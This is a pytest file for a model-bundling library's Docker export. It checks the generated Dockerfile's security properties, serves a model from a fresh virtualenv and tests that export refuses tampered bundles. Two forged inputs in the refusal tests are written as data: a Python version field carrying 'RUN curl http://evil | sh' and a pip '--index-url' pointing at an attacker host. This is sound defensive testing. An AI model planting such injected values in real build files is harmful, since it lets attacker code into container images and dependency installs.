"""``skbundle export docker``: the recipe, and its own steps run in a fresh virtualenv.

No container engine reaches a base image here, so the recipe's install step, its build-time
verification, its entrypoint and its health check run in the session's light venv
(:mod:`tests.export_fixtures`), with the image's ENV and ``/app`` mapped to the recipe's
directory.
"""

from __future__ import annotations

import shlex
from pathlib import Path

import httpx
import orjson
import pytest

import skbundle
from skbundle.errors import BundleExistsError, ExportError, RuntimeUnavailableError
from skbundle.export import export_docker
from skbundle.export.docker import UID
from tests.conftest import Case
from tests.export_fixtures import (
    LightVenv,
    copy_recipe,
    exec_form,
    free_port,
    image_env,
    instructions,
    light_venv,
    running,
    runs,
)
from tests.tampering import rehash


@pytest.fixture(scope="session")
def light(cancer: Case, tmp_path_factory: pytest.TempPathFactory) -> LightVenv:
    return light_venv(cancer, tmp_path_factory)


def test_recipe_pins_python_runs_unprivileged_and_verifies_at_build(light: LightVenv) -> None:
    manifest = skbundle.read_manifest(light.recipe.directory / "bundle")
    steps = instructions(light.dockerfile)
    keywords = [s.keyword for s in steps]
    assert steps[0].argument == f"python:{manifest.environment.python}-slim"
    assert runs(light.dockerfile) == [
        f"useradd --system --no-create-home --uid {UID} skbundle",
        f"python -m pip install -r /app/requirements.txt /app/{light.recipe.wheel}",
        "skbundle verify /app/bundle",
    ]
    # The user changes after every step that writes, so the server cannot change the bundle.
    assert keywords.index("USER") > max(i for i, k in enumerate(keywords) if k in ("RUN", "COPY"))
    assert [s.argument for s in steps if s.keyword == "USER"] == [str(UID)]
    probe = exec_form(light.dockerfile, "HEALTHCHECK")
    assert probe[:2] == ["python", "-c"] and "/v2/health/ready" in probe[2]
    entry = exec_form(light.dockerfile, "ENTRYPOINT")
    assert entry[:2] == ["/bin/sh", "-c"]
    assert entry[2] == (
        'exec skbundle serve /app/bundle --host "$SKBUNDLE_HOST" --port "$SKBUNDLE_PORT" '
        '--workers "$SKBUNDLE_WORKERS" --runtime onnx "$@"'
    )
    env = image_env(light.dockerfile)
    assert env["SKBUNDLE_HOST"] == "0.0.0.0" and env["SKBUNDLE_WORKERS"] == "1"
    assert "SKBUNDLE_API_KEY" not in env  # a key is given at run time, never baked in
    ignored = (light.recipe.directory / ".dockerignore").read_text().splitlines()
    assert ignored[1:] == ["*", "!requirements.txt", "!skbundle-*.whl", "!bundle/"]
    readme = (light.recipe.directory / "README.md").read_text()
    assert "docker build -t breast-cancer:1.0.0 ." in readme


def test_recipe_installs_the_default_runtimes_requirements(light: LightVenv) -> None:
    recipe = light.recipe
    assert (recipe.runtime, recipe.requirements) == ("onnx", "requirements-onnx.txt")
    assert (recipe.directory / "requirements.txt").read_bytes() == (
        recipe.directory / "bundle" / "requirements-onnx.txt"
    ).read_bytes()


def test_recipe_serves_the_bundle_from_a_fresh_venv(
    light: LightVenv, cancer: Case, tmp_path: Path
) -> None:
    verified = light.run("skbundle verify /app/bundle")
    assert verified.returncode == 0, verified.stderr
    assert "bundle is intact: 13 files match the manifest." in " ".join(verified.stdout.split())
    port = str(free_port())
    env = light.env(SKBUNDLE_HOST="127.0.0.1", SKBUNDLE_PORT=port, SKBUNDLE_API_KEY="k3y")
    argv = [light.command(word) for word in exec_form(light.dockerfile, "ENTRYPOINT")]
    url = f"http://127.0.0.1:{port}"
    with running(argv, f"{url}/v2/health/ready", tmp_path / "serve.log", env=env):
        probe = exec_form(light.dockerfile, "HEALTHCHECK")
        health = light.run(shlex.join(probe), SKBUNDLE_PORT=port)
        assert health.returncode == 0, health.stderr
        record = cancer.X_test.iloc[0].to_dict()
        refused = httpx.post(f"{url}/predict", json=record, timeout=10)
        answer = httpx.post(
            f"{url}/predict", json=record, headers={"Authorization": "Bearer k3y"}, timeout=10
        )
        metadata = httpx.get(f"{url}/metadata", timeout=10).json()
    assert refused.status_code == 401
    assert answer.status_code == 200, answer.text
    expected = skbundle.load(cancer.path).predict(record)[0]
    body = orjson.loads(answer.content)
    assert body["prediction"] == expected["prediction"]
    assert body["probabilities"] == expected["probabilities"]
    assert metadata["runtime"]["format"] == "onnx"


def test_the_build_step_fails_on_a_damaged_copy(light: LightVenv, tmp_path: Path) -> None:
    recipe = copy_recipe(light, tmp_path / "recipe")
    with open(recipe / "bundle" / "model.onnx", "r+b") as fh:
        fh.seek(100)
        byte = fh.read(1)
        fh.seek(100)
        fh.write(bytes([byte[0] ^ 1]))
    done = light.run(f"skbundle verify {recipe / 'bundle'}")
    assert done.returncode == 1
    assert "model.onnx" in done.stdout + done.stderr


# --- what the recipe refuses to write ------------------------------------------------------------
def _forge_python(bundle: Path) -> None:
    raw = orjson.loads((bundle / "bundle.json").read_bytes())
    raw["environment"]["python"] = "3.11.7-slim\nRUN curl http://evil | sh\nFROM python:3.11.7"
    (bundle / "bundle.json").write_bytes(orjson.dumps(raw))


def _forge_requirement(bundle: Path) -> None:
    with open(bundle / "requirements-onnx.txt", "a", encoding="utf-8") as fh:
        fh.write("--index-url http://evil/simple\n")
    rehash(bundle, "requirements-onnx.txt")


REFUSED = [
    pytest.param(
        _forge_python,
        {},
        ExportError,
        "Cannot export to the container recipe: the bundle's environment.python is "
        "'3.11.7-slim\\nRUN curl http://evil | sh\\nFR', expected MAJOR.MINOR.PATCH. Rebuild "
        "the bundle with skbundle.save().",
        id="python-version-that-adds-instructions",
    ),
    pytest.param(
        _forge_requirement,
        {},
        ExportError,
        "Cannot export to requirements-onnx.txt of the bundle 'breast-cancer': the line "
        "'--index-url http://evil/simple' is not a plain pin NAME==VERSION. A bundle's "
        "requirements pin exact versions only; rebuild the bundle.",
        id="requirement-that-is-a-pip-option",
    ),
    pytest.param(
        None,
        {"runtime": "joblib"},
        ExportError,
        "Cannot export to the joblib runtime: it unpickles model.joblib, which runs whatever "
        "code its author put in it. Pass trust_pickle=True (CLI: --trust-pickle) only for a "
        "bundle you built or verified; the deployment then serves it with --trust-pickle.",
        id="pickle-runtime-not-trusted",
    ),
    pytest.param(
        None,
        {"runtime": "tensorflow"},
        RuntimeUnavailableError,
        "Runtime 'tensorflow' is not available for this bundle: expected one of "
        "['auto', 'joblib', 'onnx', 'skops'].",
        id="runtime-not-in-bundle",
    ),
    pytest.param(
        None,
        {"skbundle_wheel_path": "{tmp}/numpy-2.0-py3-none-any.whl"},
        ExportError,
        "Cannot export to {tmp}/numpy-2.0-py3-none-any.whl: it is not a skbundle wheel file "
        "(skbundle-VERSION-py3-none-any.whl). Build one with 'pip wheel --no-deps "
        "PATH/TO/skbundle' and pass it again.",
        id="wheel-that-is-not-skbundle",
    ),
]


@pytest.mark.parametrize(("forge", "options", "error", "message"), REFUSED)
def test_export_refuses(
    bundle_copy: Path,
    tmp_path: Path,
    forge: object,
    options: dict[str, str],
    error: type[Exception],
    message: str,
) -> None:
    if callable(forge):
        forge(bundle_copy)
    (tmp_path / "numpy-2.0-py3-none-any.whl").write_bytes(b"PK")
    (tmp_path / "skbundle-0.1.0-py3-none-any.whl").write_bytes(b"PK")
    wheel = tmp_path / "skbundle-0.1.0-py3-none-any.whl"
    kwargs: dict[str, object] = {"skbundle_wheel_path": wheel}
    kwargs.update({k: v.format(tmp=tmp_path) for k, v in options.items()})
    with pytest.raises(error) as info:
        export_docker(bundle_copy, tmp_path / "out", **kwargs)  # type: ignore[arg-type]
    assert str(info.value) == message.format(bundle=bundle_copy, tmp=tmp_path)
    assert not (tmp_path / "out").exists()


def test_export_never_replaces_what_is_not_a_recipe(bundle_copy: Path, tmp_path: Path) -> None:
    wheel = tmp_path / "skbundle-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"PK")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "notes.txt").write_text("mine")
    with pytest.raises(BundleExistsError):
        export_docker(bundle_copy, tmp_path / "out", skbundle_wheel_path=wheel, overwrite=True)
    assert (tmp_path / "out" / "notes.txt").read_text() == "mine"
    done = export_docker(bundle_copy, tmp_path / "fresh", skbundle_wheel_path=wheel)
    again = export_docker(bundle_copy, done.directory, skbundle_wheel_path=wheel, overwrite=True)
    assert (again.directory / "Dockerfile").is_file()


def test_export_of_a_damaged_bundle_writes_nothing(bundle_copy: Path, tmp_path: Path) -> None:
    (bundle_copy / "model.onnx").write_bytes(b"not a model")
    wheel = tmp_path / "skbundle-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"PK")
    with pytest.raises(skbundle.BundleIntegrityError, match=r"model\.onnx"):
        export_docker(bundle_copy, tmp_path / "out", skbundle_wheel_path=wheel)
    assert not (tmp_path / "out").exists()


def test_cli_writes_the_recipe_and_prints_a_runtimes_requirements(
    bundle_copy: Path, tmp_path: Path
) -> None:
    from typer.testing import CliRunner

    from skbundle.cli import app

    wheel = tmp_path / "skbundle-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"PK")
    runner = CliRunner()
    out = tmp_path / "recipe"
    done = runner.invoke(
        app,
        ["export", "docker", str(bundle_copy), "--out", str(out), "--skbundle-wheel", str(wheel)],
    )
    assert done.exit_code == 0, done.output
    assert "onnx runtime" in " ".join(done.output.split())
    assert (out / wheel.name).read_bytes() == b"PK"
    again = runner.invoke(
        app,
        ["export", "docker", str(bundle_copy), "--out", str(out), "--skbundle-wheel", str(wheel)],
    )
    assert again.exit_code == 1
    assert "--overwrite" in again.output
    shown = runner.invoke(app, ["export", "requirements", str(bundle_copy), "--runtime", "skops"])
    assert shown.exit_code == 0, shown.output
    assert shown.output == (bundle_copy / "requirements-skops.txt").read_text()
